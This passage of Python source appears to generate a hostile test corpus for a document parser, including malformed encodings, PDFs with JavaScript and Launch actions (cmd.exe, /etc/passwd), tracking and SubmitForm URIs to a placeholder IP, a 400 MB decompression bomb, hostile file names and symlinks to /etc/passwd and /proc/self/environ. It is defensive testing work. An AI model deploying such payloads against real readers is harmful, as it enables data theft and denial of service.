        odd = text.encode("utf-16")[:-1]  # a BOM, then an odd number of bytes
        made.append(("wrong encodings", ctx.put(f"utf16-ganjil{ext}", odd)))
    made.append(
        (
            "wrong encodings",
            ctx.put("bom8-lalu-utf16.md", b"\xef\xbb\xbf" + text.encode("utf-16-le")),
        )
    )
    made.append(
        ("wrong encodings", ctx.put("shift-jis.txt", ("日本語の文章。" * 200).encode("shift_jis")))
    )
    made.append(
        (
            "wrong encodings",
            ctx.put("utf8-rusak.txt", text.encode() + b"\xc0\xaf\xed\xa0\x80\xf8\x88"),
        )
    )
    made.append(
        (
            "wrong encodings",
            ctx.put("kontrol-rtl.txt", ("\u202e\u200b\u2066" + text + "\x1b[31m").encode()),
        )
    )
    for charset in (
        "utf-7",
        "punycode",
        "idna",
        "rot13",
        "hex",
        "unicode_escape",
        "x-bogus",
        "utf-16",
        "utf-32",
        "base64",
        "uu",
        "zlib",
        "raw_unicode_escape",
    ):
        body = "".join(f"<p>{p}</p>" for p in paragraphs(rng, 3))
        page = (
            f'<html><head><meta charset="{charset}"></head><body>{body}\\N{{x}}+AGEA-</body></html>'
        )
        made.append(("wrong encodings", ctx.put(f"charset-{charset}.html", page.encode())))
    return made[:n]


def gen_pdf_actions(ctx: Ctx, n: int) -> Made:
    """PDFs with JavaScript, Launch, URI, GoToR, SubmitForm actions and an embedded file;
    then structural traps (page-tree loop, xref loop, deep arrays, a flate bomb, 5,000 pages)."""
    rng = ctx.rng
    made: Made = []
    js = b"<< /S /JavaScript /JS (app.alert\\('x'\\); this.exportDataObject\\({cName:'a'}\\);) >>"
    cases = {
        "pdf-javascript.pdf": (
            b"/OpenAction " + js + b" /Names << /JavaScript << /Names [(a) " + js + b"] >> >> ",
            b"",
        ),
        "pdf-launch.pdf": (
            b"/OpenAction << /S /Launch /F (file:///etc/passwd) /Win << /F "
            b"(cmd.exe) /P (/c calc) >> >> ",
            b"",
        ),
        "pdf-uri.pdf": (b"/OpenAction << /S /URI /URI (http://192.0.2.1/track) >> ", b""),
        "pdf-gotor.pdf": (
            b"/OpenAction << /S /GoToR /F (file:///etc/passwd) /D [0 /Fit] >> ",
            b"/AA << /O << /S /SubmitForm /F (http://192.0.2.1/s) >> >> ",
        ),
        "pdf-lampiran.pdf": (b"/Names << /EmbeddedFiles << /Names [(a.exe) 6 0 R] >> >> ", b""),
    }
    for name, (catalog, page) in cases.items():
        more = [
            b"<< /Type /Filespec /F (a.exe) /EF << /F 7 0 R >> >>",
            pdf_stream(b"MZ" + rng.randbytes(200), b" /Type /EmbeddedFile"),
        ]
        made.append(("PDF actions", ctx.put(name, text_pdf(rng, catalog, page, more))))
    if n <= len(cases):
        return made[:n]
    loop = [
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [2 0 R 3 0 R] /Count 2 >>",
        b"<< /Type /Pages /Kids [2 0 R] /Parent 2 0 R /Count 1 >>",
    ]
    made.append(("PDF structure", ctx.put("pdf-pohon-berputar.pdf", pdf_file(loop))))
    deep = b"[" * 100_000 + b"]" * 100_000
    made.append(
        ("PDF structure", ctx.put("pdf-larik-100000.pdf", text_pdf(rng, b"/X " + deep + b" ")))
    )
    bomb = zlib.compress(b"BT /F1 1 Tf (a) Tj ET\n" + b" " * (400 * MB), 9)
    objects = [
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R "
        b"/Resources << /Font << /F1 5 0 R >> >> >>",
        b"<< /Length %d /Filter /FlateDecode >>\nstream\n" % len(bomb) + bomb + b"\nendstream",
        b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
    ]
    made.append(("PDF structure", ctx.put("pdf-bom-flate-400mb.pdf", pdf_file(objects))))
    pages = 5_000
    kids = b" ".join(b"%d 0 R" % (4 + i) for i in range(pages))
    objects = [
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [" + kids + b"] /Count %d >>" % pages,
        pdf_stream(text_content([sentence(rng, 10) for _ in range(20)])),
    ]
    objects += [
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 3 0 R "
        b"/Resources << /Font << /F1 %d 0 R >> >> >>" % (4 + pages)
    ] * pages
    objects.append(b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>")
    made.append(("PDF structure", ctx.put("pdf-5000-halaman.pdf", pdf_file(objects))))
    good = text_pdf(rng)
    xref_loop = good.replace(b"/Root 1 0 R", b"/Root 1 0 R /Prev %d" % good.rindex(b"xref"))
    made.append(("PDF structure", ctx.put("pdf-xref-berputar.pdf", xref_loop)))
    made.append(
        (
            "PDF structure",
            ctx.put("pdf-panjang-bohong.pdf", good.replace(b"/Length ", b"/Length 99999999", 1)),
        )
    )
    made.append(("PDF structure", ctx.put("pdf-tanpa-xref.pdf", good[: good.index(b"xref")])))
    made.append(("PDF structure", ctx.put("pdf-dua-kali.pdf", good + good)))
    return made[:n]


def gen_disguised(ctx: Ctx, n: int) -> Made:
    """A docx that is really a PDF and the other way round, and other wrong extensions."""
    pdf, docx = real_pdfs()[0][1], real_docx()
    html = fixture("tips-wawancara-kerja.html")
    cases = {
        "pdf-sebenarnya.docx": pdf,
        "docx-sebenarnya.pdf": docx,
        "docx-sebenarnya.md": docx,
        "pdf-sebenarnya.txt": pdf,
        "pdf-sebenarnya.html": pdf,
        "html-sebenarnya.pdf": html,
        "html-sebenarnya.docx": html,
        "png-sebenarnya.htm": b"\x89PNG\r\n\x1a\n" + ctx.rng.randbytes(3000),
        "exe-sebenarnya.txt": b"MZ\x90\x00" + ctx.rng.randbytes(3000),
        "gzip-sebenarnya.markdown": gzip.compress(html, mtime=0),
        "pdf-di-tengah-teks.txt": b"Catatan awal.\n" * 20 + pdf,
        "zip-bukan-word.docx": _zip_without_document(),
        "doc-lama.docx": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + ctx.rng.randbytes(4000),
    }
    return [("disguised (wrong extension)", ctx.put(k, v)) for k, v in list(cases.items())[:n]]


def _zip_without_document() -> bytes:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w") as zf:
        zf.writestr("README.txt", "bukan dokumen Word")
    return buf.getvalue()


def gen_names(ctx: Ctx, n: int) -> Made:
    """Ordinary content under hostile file names (long, newline, RTL override, dashes)."""
    body = "\n\n".join(paragraphs(ctx.rng, 2)).encode()
    names = [
        "-rf --help.txt",
        "nama\nbaris baru.txt",
        "rtl-\u202etxt.exe.md",
        '«kutip» dan "petik".txt',
        "x" * 240 + ".md",
        " spasi di depan .txt",
        "karier 💼 perawat.markdown",
        "..titik.txt",
    ]
    return [("hostile file names", ctx.put(name, body)) for name in names[:n]]


def gen_symlinks(ctx: Ctx, n: int) -> Made:
    """Symlinks out of the corpus (POSIX only): system files, devices, a file beside the
    corpus, a dangling link, a loop, a directory; and a FIFO that would block a reader."""
    if sys.platform == "win32" or not hasattr(os, "symlink"):
        return []
    made: Made = []
    outside = ctx.outside or ctx.out.parent / "di-luar-korpus"
    outside.mkdir(exist_ok=True)
    secret = outside / "rahasia-di-luar.txt"
    secret.write_text("Rahasia di luar korpus.\n\nIni tidak boleh terbaca diam-diam.\n")
    targets = {
        "tautan-passwd.txt": "/etc/passwd",
        "tautan-hostname.md": "/etc/hostname",
        "tautan-di-luar.txt": str(secret),
        "tautan-relatif.md": os.path.relpath(secret, ctx.out),
        "tautan-dev-zero.txt": "/dev/zero",
        "tautan-urandom.pdf": "/dev/urandom",
        "tautan-environ.txt": "/proc/self/environ",
        "tautan-putus.docx": str(outside / "tidak-ada.docx"),
        "tautan-folder.html": str(outside),
        "tautan-berputar.txt": "tautan-berputar.txt",
    }
    for name, target in list(targets.items())[:n]:
        path = ctx.out / name
        ctx.used.add(name)
        os.symlink(target, path)
        made.append(("symlinks / special files", path))
    if n > len(targets) and hasattr(os, "mkfifo"):
        fifo = ctx.out / "pipa-fifo.txt"
        os.mkfifo(fifo)
        ctx.used.add(fifo.name)
        made.append(("symlinks / special files", fifo))
    return made


Generator = Callable[[Ctx, int], Made]
# (generator, files in the full corpus, files in the smoke subset)
GENERATORS: tuple[tuple[Generator, int, int], ...] = (
    (gen_controls, 99, 2),
    (gen_empty, 99, 3),
    (gen_random, 70, 1),
    (gen_truncated_pdf, 50, 1),
    (gen_truncated_docx, 100, 1),
    (gen_bitflip, 20, 0),
    (gen_zip_bombs, 99, 2),
    (gen_xml_attacks, 99, 2),
    (gen_nesting, 99, 2),
    (gen_huge, 99, 1),
    (gen_html_resources, 99, 1),
    (gen_encodings, 99, 2),
    (gen_pdf_actions, 99, 1),
    (gen_disguised, 99, 2),
    (gen_names, 99, 2),
    (gen_symlinks, 99, 3),
)


def build(folder: Path, *, smoke: bool = False, seed: int = SEED) -> Made:
    """Write the corpus into ``folder`` (made if needed); ``(category, path)`` per file."""
    folder.mkdir(parents=True, exist_ok=True)
    ctx = Ctx(folder, random.Random(seed), outside=folder.parent / f"{folder.name}-di-luar")
    made: Made = []
    for gen, full, small in GENERATORS:
        count = small if smoke else full
        if count:
            made.extend(gen(ctx, count))
    return made
